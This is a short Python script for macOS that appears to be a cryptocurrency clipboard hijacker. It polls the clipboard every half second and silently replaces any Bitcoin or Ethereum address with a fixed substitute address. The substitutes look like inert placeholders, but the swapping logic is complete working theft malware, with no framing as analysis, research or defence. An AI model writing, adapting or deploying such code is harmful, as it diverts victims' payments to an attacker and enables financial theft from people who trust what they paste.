import re, subprocess, time
PAT = [(re.compile(r"\b(bc1[a-z0-9]{25,60}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})\b"), "bc1qm3k9x0inertinertinertinertinert0000"),
       (re.compile(r"\b0x[a-fA-F0-9]{40}\b"), "0x00000000000000000000000000000000deadbeef")]
while True:
    s = subprocess.run(["pbpaste"], capture_output=True, text=True).stdout
    for p, r in PAT:
        if p.search(s) and r not in s:
            subprocess.run(["pbcopy"], input=p.sub(r, s), text=True)
    time.sleep(0.5)
